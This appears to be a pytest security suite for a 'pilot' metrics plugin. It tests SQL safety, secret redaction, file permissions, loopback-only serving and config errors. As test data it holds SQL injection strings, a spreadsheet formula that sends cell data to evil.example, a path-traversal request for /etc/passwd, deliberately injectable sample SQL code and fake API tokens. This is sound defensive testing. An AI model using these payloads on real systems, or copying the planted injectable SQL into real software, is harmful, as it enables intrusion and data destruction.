"""Security: values are data, never SQL; secrets never reach the database; files are private; the metrics
endpoint is local and read-only; a bad config file is one line naming the key.

- Project names and task ids built to break SQL, in unicode, over several lines or 10 KB long go through
  `pilot replay`, `pilot run`, every report and every export format unchanged, and leave every table in place.
  The source is read too (tests/sql_audit.py): no statement is built from anything but literals, constants
  and placeholders.
- An agent whose error text, stderr and command line carry API keys leaves no key in `show --json`, the
  export or the database file.
- With umask 0 the database (and its WAL and shared-memory files), an export and the jsonl sink's file are
  still created 0600.
- `pilot metrics serve` listens on loopback only unless told otherwise and answers only GET /metrics.
- A config file with an unknown key or a wrong type stops every command with one line naming the key (exit 2,
  no traceback); an execution still runs and says it cannot be recorded, naming the key.

The transcript replayed is v2.1.328 (21086 tokens, 32672000 nano-dollars: test_record_fixtures.EXPECTED).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import socket
import sqlite3
import stat
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import ROOT, transcript
from hookspecs import cli
from hookspecs.manager import PluginHost
from pilot_metrics_plugin.config import Config
from pilot_metrics_plugin.failures import redact_command
from pilot_metrics_plugin.plugin import MetricsPlugin
from sql_audit import Audit
from test_prometheus import metrics_host, start_server

AGENT_SCRIPT = Path(__file__).resolve().parent / "agent_script.py"
FIXTURE = transcript("v2.1.328")
TOKENS_TOTAL = 21086
COST_NANO_USD = 32_672_000
REPORTS = ("summary", "daily", "weekly", "monthly", "projects", "models", "phases", "failures", "peak")


# -- SQL: the source -----------------------------------------------------------------------------------------


def test_no_sql_statement_in_the_source_is_built_from_a_value() -> None:
    audit = Audit.of_packages(ROOT, ("hookspecs", "pilot_metrics_plugin")).run()
    assert audit.statements > 50  # the store, migrations, reports, export, prometheus, import, reprice
    assert audit.problems == []


PLANTED = """
COLUMNS = ("task_id", "project")


def by_project(conn, project):
    return conn.execute(f"SELECT * FROM executions WHERE project = '{project}'").fetchall()


def main(args, conn):
    by_project(conn, args.project)
    conn.execute("DELETE FROM executions WHERE task_id = " + args.task_id)
    conn.execute("SELECT %s FROM executions" % args.column)
    conn.execute("SELECT {c} FROM executions".format(c=args.column))
    conn.execute(f"SELECT {', '.join(COLUMNS)} FROM executions LIMIT {args.limit:d}")  # names, an int: fine
    conn.execute("SELECT * FROM executions WHERE project = ?", (args.project,))  # parameterized: fine
"""


def test_the_source_audit_finds_sql_built_from_values() -> None:
    # The audit itself, on code with four ways of putting a value into SQL text and two safe statements.
    audit = Audit.of_sources([("planted", PLANTED, "planted.py")], ("planted",)).run()
    assert audit.statements == 6
    assert sorted(problem.split(": ", 2)[2] for problem in audit.problems) == [
        "a value from Attribute `args.column`",
        "a value from Attribute `args.column`",
        "a value from Attribute `args.project`",
        "a value from Attribute `args.task_id`",
    ]


# -- SQL: hostile values, end to end -------------------------------------------------------------------------

HOSTILE = {
    "quote and DROP TABLE": "x'); DROP TABLE executions;--",
    "double quote and DELETE": 'x"); DELETE FROM phases; --',
    "placeholders": "? :name @p $1 %s {0}",
    "unicode": "プロジェクト 🚀 Ünïcødé \u202egnp.exe",
    "new lines": "line one\nline two\r\n\tthree",
    "a spreadsheet formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "10 KB": "x'" * 5120,
}


@dataclass
class Pilot:
    """``pilot`` in this process with the metrics plugin on ``db``; returns exit code, stdout and stderr."""

    host: PluginHost
    db: Path

    @classmethod
    def on(cls, db: Path) -> Pilot:
        metrics = MetricsPlugin(db_path=db, config=Config())
        return cls(PluginHost.create([("metrics", metrics)], load_entrypoints=False), db)

    def __call__(self, *argv: str) -> tuple[int, str, str]:
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = cli.main(list(argv), host=self.host)
        return code, out.getvalue(), err.getvalue()


@pytest.fixture
def pilot(tmp_path: Path) -> Pilot:
    return Pilot.on(tmp_path / "metrics.db")


def tables(db: Path) -> list[str]:
    with sqlite3.connect(db) as conn:
        return [name for (name,) in conn.execute("SELECT name FROM sqlite_master ORDER BY name")]


ERROR_RESULT = json.dumps(
    {
        "type": "result",
        "subtype": "error_during_execution",
        "is_error": True,
        "errors": ["the tests failed"],
        "num_turns": 1,
    }
)


@dataclass
class HostileRun:
    value: str
    pilot: Pilot
    tables_before: list[str]


@pytest.fixture(scope="module", params=sorted(HOSTILE), ids=str)
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> HostileRun:
    """Two executions with the value as project and task id: a replay (succeeded) and a run whose agent
    prints the fixture's init and an error result (failed, so the failures report lists its task id)."""
    value = HOSTILE[request.param]
    tmp_path = tmp_path_factory.mktemp("hostile")
    pilot = Pilot.on(tmp_path / "metrics.db")
    code, _, err = pilot(
        "replay",
        str(FIXTURE),
        f"--task-id={value}",
        f"--project={value}",
        "--started-at",
        "2026-11-20T10:00:00Z",
    )
    assert code == 0, err
    tables_before = tables(pilot.db)
    project = tmp_path / "project"
    project.mkdir()
    init = FIXTURE.read_text().splitlines()[0]
    agent = [sys.executable, str(AGENT_SCRIPT), "--line", init, "--line", ERROR_RESULT]
    code, _, err = pilot(
        "run", f"--task-id={value}", f"--project={value}", "--project-path", str(project), "--", *agent
    )
    assert code == 1, err
    return HostileRun(value, pilot, tables_before)


def test_a_hostile_name_is_stored_exactly_and_every_table_survives(hostile: HostileRun) -> None:
    assert tables(hostile.pilot.db) == hostile.tables_before
    with sqlite3.connect(hostile.pilot.db) as conn:
        rows = conn.execute("SELECT project, task_id, status FROM executions ORDER BY status DESC").fetchall()
        assert conn.execute("SELECT COUNT(*) FROM phases").fetchone()[0] >= 3  # replay 2 + run 1
    assert rows == [(hostile.value, hostile.value, "succeeded"), (hostile.value, hostile.value, "failed")]


def test_show_prints_a_hostile_name_exactly(hostile: HostileRun) -> None:
    code, out, _ = hostile.pilot("metrics", "show", "--last", "--json", "--db", str(hostile.pilot.db))
    record = json.loads(out)
    assert (code, record["project"], record["task_id"]) == (0, hostile.value, hostile.value)


@pytest.mark.parametrize("report", REPORTS)
def test_every_report_filters_on_a_hostile_project_and_keeps_it_exact(
    report: str, hostile: HostileRun
) -> None:
    pilot, value = hostile.pilot, hostile.value
    common = ["--db", str(pilot.db), f"--project={value}", "--tz", "UTC"]
    period = ["--since", "2026-11-01"] if report not in ("weekly", "monthly") else []
    code, out, err = pilot("metrics", report, *common, *period, "--json")
    assert code == 0, err
    doc = json.loads(out)
    if "filters" in doc:
        assert doc["filters"]["projects"] == [value]
    if report == "summary":
        assert (doc["executions"], doc["tokens"]["total"], doc["cost_nano_usd"]) == (
            2,
            TOKENS_TOTAL,
            COST_NANO_USD,
        )
    if report == "projects":
        assert [row["project"] for row in doc["rows"]] == [value]
    if report == "failures":
        assert [row["latest_task_ids"] for row in doc["rows"]] == [[value]]  # the failed task, as it is
    code, _, err = pilot("metrics", report, *common, *period)  # the table too
    assert code == 0, err


def test_a_hostile_model_filter_selects_nothing_and_breaks_nothing(hostile: HostileRun) -> None:
    code, out, err = hostile.pilot(
        "metrics",
        "summary",
        "--db",
        str(hostile.pilot.db),
        f"--model={hostile.value}",
        "--since",
        "2026-11-01",
        "--json",
    )
    assert (code, json.loads(out)["executions"]) == (0, 0), err
    assert tables(hostile.pilot.db) == hostile.tables_before


@pytest.mark.parametrize("fmt", ["json", "ndjson", "csv"])
def test_every_export_format_carries_a_hostile_name_and_csv_defuses_formulas(
    fmt: str, hostile: HostileRun
) -> None:
    pilot, value = hostile.pilot, hostile.value
    code, out, err = pilot("metrics", "export", "--db", str(pilot.db), f"--project={value}", "--format", fmt)
    assert code == 0, err
    if fmt == "json":
        projects = [record["project"] for record in json.loads(out)]
    elif fmt == "ndjson":
        projects = [json.loads(line)["project"] for line in out.splitlines()]
    else:
        projects = [row["project"] for row in csv.DictReader(io.StringIO(out, newline=""))]
        # A cell a spreadsheet would run as a formula starts with ' instead; any other text is as stored.
        value = "'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value
    assert projects == [value, value]


# -- secrets -------------------------------------------------------------------------------------------------

ANTHROPIC_KEY = (
    "sk-ant-" + "api03-Xq7Lm2Pz9Rt4Vb8Nc1Kd6Hf3Jg5Ws0Ye2Ua4Io7Tp9Re1Wq3Zx5Cv8Bn0Ml2Kj4Hg6Fd8Sa-AbCdEf"
)
GITHUB_TOKEN = "ghp_" + "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe9Dc8"
PASSWORD = "hunter2-staging-Secret"
SECRETS = (ANTHROPIC_KEY, GITHUB_TOKEN, PASSWORD)


@dataclass
class Leaky:
    pilot: Pilot
    show_json: str
    show_text: str
    export_csv: str


@pytest.fixture
def leaky(pilot: Pilot, tmp_path: Path) -> Leaky:
    """A run whose agent fails with a key in its error and a token on stderr, started with a password on its
    command line (the agent script's own arguments carry the key and the token as well)."""
    project = tmp_path / "project"
    project.mkdir()
    error = json.dumps(
        {
            "type": "result",
            "subtype": "error_during_execution",
            "is_error": True,
            "errors": [f"API Error: 401 invalid x-api-key: {ANTHROPIC_KEY}"],
        }
    )
    agent = [
        "env",
        f"DB_PASSWORD={PASSWORD}",
        sys.executable,
        str(AGENT_SCRIPT),
        "--line",
        FIXTURE.read_text().splitlines()[0],
        "--line",
        error,
        "--stderr",
        f"git push https://bot:{GITHUB_TOKEN}@github.com/o/r.git",
        "--exit-code",
        "1",
    ]
    code, _, err = pilot(
        "run", "--task-id", "T", "--project", "p", "--project-path", str(project), "--", *agent
    )
    assert code == 1, err
    db = ["--db", str(pilot.db)]
    show_json = pilot("metrics", "show", "--last", "--json", *db)[1]
    show_text = pilot("metrics", "show", "--last", *db)[1]
    export_csv = pilot("metrics", "export", "--format", "csv", *db)[1]
    return Leaky(pilot, show_json, show_text, export_csv)


def test_a_key_in_the_agents_error_is_masked_in_the_stored_reason(leaky: Leaky) -> None:
    record = json.loads(leaky.show_json)
    assert record["failure_reason"] == "API Error: 401 invalid x-api-key: sk-ant-***"


def test_no_secret_of_the_agent_reaches_show_or_export(leaky: Leaky) -> None:
    for secret in SECRETS:
        for shown in (leaky.show_json, leaky.show_text, leaky.export_csv):
            assert secret not in shown


def test_no_secret_of_the_agent_reaches_the_database_file(leaky: Leaky) -> None:
    files = [leaky.pilot.db, *leaky.pilot.db.parent.glob(leaky.pilot.db.name + "-*")]  # with its WAL
    data = b"".join(path.read_bytes() for path in files)
    for secret in SECRETS:
        assert secret.encode() not in data


def test_a_secret_on_the_agents_command_line_is_masked_in_the_stored_command(leaky: Leaky) -> None:
    command = json.loads(leaky.show_json)["agent_command"]
    assert command[:2] == ["env", "DB_PASSWORD=***"]


@pytest.mark.parametrize(
    ("argv", "stored"),
    [
        (["claude", "-p", "fix the bug"], ["claude", "-p", "fix the bug"]),
        (["claude", "--api-key", "abc123"], ["claude", "--api-key", "***"]),
        (["agent", "--password", "hunter2", "--verbose"], ["agent", "--password", "***", "--verbose"]),
        (["agent", "--token=abc123"], ["agent", "--token=***"]),
        (["env", "ANTHROPIC_API_KEY=xyz", "claude"], ["env", "ANTHROPIC_API_KEY=***", "claude"]),
        (["claude", "-p", f"push with {GITHUB_TOKEN}"], ["claude", "-p", "push with ghp_***"]),
        (
            ["git", "clone", "https://bot:s3cret@example.com/r.git"],
            ["git", "clone", "https://***:***@example.com/r.git"],
        ),
        (["claude", "--max-tokens", "8000"], ["claude", "--max-tokens", "8000"]),
    ],
)
def test_a_command_line_is_stored_with_its_secrets_masked(argv: list[str], stored: list[str]) -> None:
    assert redact_command(argv) == stored


# -- private files -------------------------------------------------------------------------------------------

SINK_DRIVER = '''
"""pilot replay with the metrics plugin and the jsonl sink, then an export, all with umask 0."""
import json, os, sys
os.umask(0)
import pilot_jsonl_sink
from hookspecs.cli import main
from hookspecs.manager import PluginHost
from pilot_metrics_plugin.plugin import MetricsPlugin

metrics = MetricsPlugin()
host = PluginHost.create([("jsonl", pilot_jsonl_sink), ("metrics", metrics)], load_entrypoints=False)
fixture, export, modes = sys.argv[1:4]
assert main(["replay", fixture, "--task-id", "T", "--project", "p"], host=host) == 0
db = metrics.open_store().path
found = {}
for path in [db.parent, *sorted(db.parent.iterdir())]:  # while this process holds the database open
    found[path.name] = oct(os.stat(path).st_mode & 0o777)
assert main(["metrics", "export", "--format", "csv", "-o", export], host=host) == 0
with open(modes, "w") as out:
    out.write(json.dumps(found))
'''


def test_with_umask_0_the_database_its_wal_an_export_and_the_sink_file_are_private(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    sink_file = tmp_path / "sink" / "executions.jsonl"
    (home / "metrics.toml").write_text(f'[sinks.jsonl]\npath = "{sink_file}"\n')
    driver, export, modes = tmp_path / "driver.py", tmp_path / "export.csv", tmp_path / "modes.txt"
    driver.write_text(SINK_DRIVER)
    env = {
        **os.environ,
        "PILOT_HOME": str(home),
        "PYTHONPATH": os.pathsep.join(
            [str(ROOT / "examples" / "jsonl-sink"), os.environ.get("PYTHONPATH", "")]
        ),
    }
    result = subprocess.run(
        [sys.executable, str(driver), str(FIXTURE), str(export), str(modes)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    found = json.loads(modes.read_text())
    assert found == {
        "data": "0o700",
        "metrics.db": "0o600",
        "metrics.db-shm": "0o600",
        "metrics.db-wal": "0o600",
    }
    assert stat.S_IMODE(export.stat().st_mode) == 0o600
    assert stat.S_IMODE(sink_file.stat().st_mode) == 0o600
    assert len(sink_file.read_text().splitlines()) == 1


# -- pilot metrics serve -------------------------------------------------------------------------------------


@dataclass
class Server:
    process: subprocess.Popen[str]
    host: str
    port: int

    def request(self, method: str, path: str, host: str | None = None) -> tuple[int, bytes]:
        import http.client

        connection = http.client.HTTPConnection(host or self.host, self.port, timeout=10)
        try:
            connection.request(method, path)
            response = connection.getresponse()
            return response.status, response.read()
        finally:
            connection.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    root = tmp_path_factory.mktemp("serve")
    db = root / "metrics.db"
    argv = ["replay", str(FIXTURE), "--task-id", "T", "--project", "shop"]
    assert cli.main(argv, host=metrics_host(db)) == 0
    env = {k: v for k, v in os.environ.items() if not k.startswith("PILOT_")}
    env["PILOT_HOME"] = str(root / "home")
    served = start_server(db, env)
    address = served.url.removeprefix("http://").removesuffix("/metrics")
    host_part, port = address.rsplit(":", 1)
    yield Server(served.process, host_part, int(port))
    served.process.terminate()
    served.process.wait(timeout=30)


def this_machines_address() -> str | None:
    """An address of this machine other than loopback (the one its default route leaves from)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))  # UDP: no packet is sent
        address = probe.getsockname()[0]
    except OSError:
        return None
    finally:
        probe.close()
    return None if address.startswith("127.") or address == "0.0.0.0" else address


def test_serve_is_not_reachable_through_this_machines_other_addresses(server: Server) -> None:
    assert server.host == "127.0.0.1"
    address = this_machines_address()
    if address is None:
        pytest.skip("this machine has no address but loopback")
    with pytest.raises(OSError):
        server.request("GET", "/metrics", host=address)
    assert server.request("GET", "/metrics")[0] == 200  # while loopback answers


@pytest.mark.parametrize(
    "method", ["POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "BREW"]
)
def test_serve_answers_no_other_method_with_the_metrics(method: str, server: Server) -> None:
    status, body = server.request(method, "/metrics")
    # 405 for the methods HTTP defines (with Allow: GET), 501 for ones it does not know; never the metrics.
    assert status in (405, 501)
    assert b"pilot_" not in body


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/metrics/",
        "/metrics/../metrics",
        "/METRICS",
        "/metrics.txt",
        "/../../etc/passwd",
        "/%2e%2e/metrics",
    ],
)
def test_serve_answers_no_other_path_with_the_metrics(path: str, server: Server) -> None:
    status, body = server.request("GET", path)
    assert status == 404 and b"pilot_" not in body


def test_serve_answers_get_metrics_with_a_query_string(server: Server) -> None:
    status, body = server.request("GET", "/metrics?name[]=pilot_tokens_total")
    assert status == 200 and b"pilot_tokens_total" in body


# -- the config file -----------------------------------------------------------------------------------------

BAD_CONFIGS = {
    "unknown top-level key": ('db_pth = "x.db"\n', "db_pth"),
    "wrong type of db_path": ("db_path = 3\n", "db_path"),
    "wrong type of stale_after": ("stale_after = [1]\n", "stale_after"),
    "wrong type of timezone": ("timezone = 5\n", "timezone"),
    "wrong type of the sink timeout": ('[sinks]\ntimeout = "soon"\n', "sinks.timeout"),
    "a price that is not a number": ('[prices."claude-opus-5-5"]\ninput = "cheap"\n', '"input"'),
    "an unknown price key": ('[prices."claude-opus-5-5"]\ninptu = "3"\n', '"inptu"'),
    "prices that are not a table": ('[prices]\n"claude-opus-5-5" = 3\n', "prices.claude-opus-5-5"),
    "a project name that is not text": ('[projects]\n"/x" = 4\n', "projects./x"),
}
CONFIG_COMMANDS = (
    ("metrics", "summary"),
    ("metrics", "daily"),
    ("metrics", "show", "--last"),
    ("metrics", "export"),
    ("metrics", "reprice"),
    ("metrics", "prom"),
)


@pytest.fixture
def home_with_a_record(_isolated_environment: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """PILOT_HOME with one execution recorded, so that reading commands have a database to open."""
    host = PluginHost.create([("metrics", MetricsPlugin())], load_entrypoints=False)
    assert cli.main(["replay", str(FIXTURE), "--task-id", "T", "--project", "p"], host=host) == 0
    capsys.readouterr()
    return _isolated_environment


def pilot_with_config(argv: tuple[str, ...], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """``pilot ARGV`` as installed: the metrics plugin reads $PILOT_HOME/metrics.toml afresh."""
    host = PluginHost.create([("metrics", MetricsPlugin())], load_entrypoints=False)
    code = cli.main(list(argv), host=host)
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("mistake", sorted(BAD_CONFIGS), ids=str)
def test_a_bad_config_stops_every_command_with_one_line_naming_the_key(
    mistake: str, home_with_a_record: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text, key = BAD_CONFIGS[mistake]
    (home_with_a_record / "metrics.toml").write_text(text)
    for command in CONFIG_COMMANDS:
        code, out, err = pilot_with_config(command, capsys)
        assert (code, out) == (2, ""), (command, err)
        lines = err.splitlines()
        assert len(lines) == 1 and lines[0].startswith("pilot: error: ") and key in lines[0], (command, lines)


@pytest.mark.parametrize("mistake", sorted(BAD_CONFIGS), ids=str)
def test_a_bad_config_stops_serve_before_it_listens(mistake: str, tmp_path: Path) -> None:
    text, key = BAD_CONFIGS[mistake]
    home = tmp_path / "home"
    home.mkdir()
    (home / "metrics.toml").write_text(text)
    result = subprocess.run(
        [sys.executable, "-m", "hookspecs", "metrics", "serve", "--port", "0"],
        env={**os.environ, "PILOT_HOME": str(home)},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2
    (line,) = result.stderr.splitlines()
    assert line.startswith("pilot: error: ") and key in line


@pytest.mark.parametrize("mistake", sorted(BAD_CONFIGS), ids=str)
def test_with_a_bad_config_an_execution_still_runs_and_says_once_why_it_is_not_recorded(
    mistake: str, _isolated_environment: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text, key = BAD_CONFIGS[mistake]
    _isolated_environment.mkdir(parents=True)
    (_isolated_environment / "metrics.toml").write_text(text)
    code, _, err = pilot_with_config(("replay", str(FIXTURE), "--task-id", "T", "--project", "p"), capsys)
    assert code == 0
    (line,) = [line for line in err.splitlines() if "cannot record" in line]
    assert line.startswith("pilot metrics: cannot record execution ") and key in line
    assert "Traceback" not in err and "pilot: plugin" not in err
